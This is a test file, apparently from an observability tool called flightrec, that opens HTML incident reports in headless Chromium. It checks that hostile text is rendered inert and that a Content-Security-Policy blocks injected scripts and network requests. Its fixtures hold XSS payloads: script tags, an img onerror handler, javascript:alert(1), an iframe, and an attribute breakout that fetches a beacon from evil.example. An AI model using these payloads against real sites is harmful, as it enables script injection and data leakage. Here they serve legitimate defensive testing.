/**
 * The HTML incident report in a real browser: Debian's `chromium`, headless and offline (see
 * tools/chromium.ts for the flags), opening reports that `flightrec incident --html` wrote
 * for the bundled workload and for a session whose span text is hostile HTML. Checked there, not
 * by reading the markup: the verdict is on the first screen, every in-page link has its target,
 * no script runs — not the hostile text, and not even a raw <script> spliced into the file (the
 * Content-Security-Policy blocks it) — and the page makes no network request.
 *
 * Needs chromium (`apt-get install -y chromium`; .ci/run installs it). Without one the tests are
 * skipped with that message, unless FLIGHTREC_REQUIRE_BROWSER=1 (as in CI), where they fail.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ReplayedSession } from '../workload/replay.ts';
import { context, inbound, model, policy, tool, turn, type Scenario } from '../workload/scenario.ts';
import { findChromium, launchChromium, openPage, type Browser, type OpenedPage } from '../tools/chromium.ts';
import { startTestServer, type TestServer } from './support/embedded.ts';
import { runCli } from '../tools/run-cli.ts';
import { seedWorkload } from './support/seed-workload.ts';
import { tempDir } from '../tools/temp-dir.ts';

const chromium = findChromium();
if (!chromium) {
  const msg = 'no chromium on PATH: install it with `apt-get install -y chromium` (or set FLIGHTREC_CHROMIUM) to run the browser tests of the HTML report';
  if (process.env.FLIGHTREC_REQUIRE_BROWSER === '1') throw new Error(msg);
  console.warn(`SKIPPED test/review-report-browser.test.ts: ${msg}`);
}

const XSS = `<script>document.title='pwned-script'</script><img src=x onerror="document.title='pwned-img'">`;
const hostile: Scenario = {
  key: 'hostile-html',
  title: 'A web page whose text is markup',
  agent: `mail-agent${XSS}`,
  minutesAgo: 4,
  expect: ['detect_toxic_flow'],
  turns: [
    turn('mail-agent', 0, 3_000, [
      inbound({ at: 0, source: 'user_message', trust: 'trusted', text: 'read it', actor: `slack:${XSS}`, channel: 'slack' }),
      model({ at: 10, ms: 50, model: 'm', inputTokens: 1, outputTokens: 1 }),
      context({ at: 100, name: `page ${XSS}`, source: 'web', trust: 'untrusted', sensitivity: 'public', text: 'x', uri: `https://evil.example/"><script>fetch('https://evil.example/beacon')</script>` }),
      context({ at: 200, name: 'crm', source: 'tool_result', trust: 'trusted', sensitivity: 'pii', text: 'rows', uri: 'crm://customers' }),
      policy({ at: 300, action: 'send_email', verdict: 'deny', rule: `rule${XSS}`, reason: `<a href="https://evil.example/">click</a>`, effect: 'send', targetSystem: 'email', targetResource: `javascript:alert(1)` }),
      tool({ at: 400, ms: 10, name: 'slack_reply', effect: 'send', risk: 'low', targetSystem: 'slack', targetResource: `slack:<iframe src="https://evil.example/"></iframe>`, reversible: false, args: { t: 1 }, callId: 'c1' }),
    ]),
  ],
};

let t: TestServer;
let sessions: ReplayedSession[];
let browser: Browser;
const dir = tempDir('flightrec-browser-');
const reports: Record<string, string> = {};

beforeAll(async () => {
  if (!chromium) return;
  t = await startTestServer();
  sessions = await seedWorkload(t, [hostile], 'b1');
  for (const key of ['injected-exfil', 'partial-refund', 'hostile-html']) {
    const file = join(dir.path, `${key}.html`);
    const r = await runCli(['incident', sessions.find((s) => s.key === key)!.sessionId, '--html', file, '--url', t.server.queryUrl]);
    expect(r.code, r.stderr).toBe(0);
    reports[key] = file;
  }
  browser = await launchChromium(chromium, { width: 1280, height: 800 });
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await t?.stop();
  dir.cleanup();
});

/**
 * Requests the page made, other than for the report file itself and those the browser blocked
 * itself by the page's Content-Security-Policy (announced, then failed with blockedReason "csp",
 * never sent).
 */
function requestsBeyond(page: OpenedPage, file: string): string[] {
  const own = pathToFileURL(file).href;
  const mine = browser.events.filter((e) => e.sessionId === page.sessionId);
  const blocked = new Set(mine.filter((e) => e.method === 'Network.loadingFailed' && e.params.blockedReason === 'csp').map((e) => e.params.requestId));
  return mine
    .filter((e) => e.method === 'Network.requestWillBeSent' && !blocked.has(e.params.requestId))
    .map((e) => String((e.params.request as { url: string }).url))
    .filter((u) => u !== own);
}

/** Requests the policy blocked. */
function blockedByPolicy(page: OpenedPage): number {
  return browser.events.filter((e) => e.sessionId === page.sessionId && e.method === 'Network.loadingFailed' && e.params.blockedReason === 'csp').length;
}

describe.skipIf(!chromium)('the HTML report in headless Chromium', () => {
  it('shows the verdict on the first screen', async () => {
    for (const [key, sev] of [['injected-exfil', 'critical'], ['partial-refund', 'high']] as const) {
      const page = await openPage(browser, pathToFileURL(reports[key]!).href);
      const v = await page.evaluate<{ top: number; bottom: number; height: number; text: string; viewport: number }>(`(() => {
        const e = document.getElementById('verdict'); const r = e.getBoundingClientRect();
        return { top: r.top, bottom: r.bottom, height: r.height, text: e.innerText, viewport: innerHeight };
      })()`);
      expect(v.height, key).toBeGreaterThan(50);
      expect(v.top, key).toBeGreaterThanOrEqual(0);
      expect(v.bottom, key).toBeLessThanOrEqual(v.viewport);
      expect(v.text, key).toMatch(new RegExp(`^Verdict: ${sev}`, 'i'));
      expect(v.text, key).toMatch(/Touched\s+irreversible/i);
    }
  });

  it('resolves every in-page link, and following one scrolls to its span', async () => {
    const page = await openPage(browser, pathToFileURL(reports['injected-exfil']!).href);
    const links = await page.evaluate<{ href: string; found: boolean }[]>(`[...document.querySelectorAll('a[href^="#"]')].map((a) => ({ href: a.getAttribute('href'), found: !!document.getElementById(a.getAttribute('href').slice(1)) }))`);
    expect(links.length).toBeGreaterThan(20);
    expect(links.filter((l) => !l.found)).toEqual([]);
    // A finding's evidence link leads to the timeline row of that span, below the first screen.
    const moved = await page.evaluate<{ before: number; after: number; target: string }>(`(() => {
      const a = document.querySelector('#findings a[href^="#s"]'); const before = scrollY; a.click();
      return { before, after: scrollY, target: document.querySelector(':target')?.id ?? '' };
    })()`);
    expect(moved.after).toBeGreaterThan(moved.before);
    expect(moved.target).toMatch(/^s\d+$/);
  });

  it('runs no script from hostile span text, shows it as text, and requests nothing', async () => {
    const page = await openPage(browser, pathToFileURL(reports['hostile-html']!).href);
    const state = await page.evaluate<{ title: string; scripts: number; iframes: number; imgs: number; text: string }>(`({
      title: document.title, scripts: document.scripts.length, iframes: document.querySelectorAll('iframe').length,
      imgs: document.images.length, text: document.body.innerText })`);
    expect(state.title).toMatch(/^flightrec incident: hostile-html-b1$/);
    expect(state.scripts + state.iframes + state.imgs).toBe(0);
    expect(state.text).toContain(`<script>document.title='pwned-script'</script>`);
    expect(state.text).toContain('javascript:alert(1)');
    expect(requestsBeyond(page, reports['hostile-html']!)).toEqual([]);
  });

  it('blocks even a raw script spliced into the file (the Content-Security-Policy), and requests nothing', async () => {
    const spliced = join(dir.path, 'spliced.html');
    writeFileSync(spliced, readFileSync(reports['injected-exfil']!, 'utf8').replace('</body>',
      `<script>document.title='ran'</script><img src="https://evil.example/pixel.png"><link rel="stylesheet" href="https://evil.example/s.css"><div style="background:url(https://evil.example/bg.png)">x</div></body>`));
    const page = await openPage(browser, pathToFileURL(spliced).href);
    expect(await page.evaluate<string>('document.title')).not.toBe('ran');
    const violations = browser.events.filter((e) => e.sessionId === page.sessionId && e.method === 'Log.entryAdded' && /Content Security Policy/i.test(String((e.params.entry as { text: string }).text)));
    expect(violations.length).toBeGreaterThan(0);
    // Blocked by the policy before any request is made.
    expect(requestsBeyond(page, spliced)).toEqual([]);
    expect(blockedByPolicy(page)).toBeGreaterThan(0);
    // The control: the same file without the policy runs the script, so the check above can fail.
    const open = join(dir.path, 'spliced-no-csp.html');
    writeFileSync(open, readFileSync(spliced, 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
    expect(await (await openPage(browser, pathToFileURL(open).href)).evaluate<string>('document.title')).toBe('ran');
  });
});
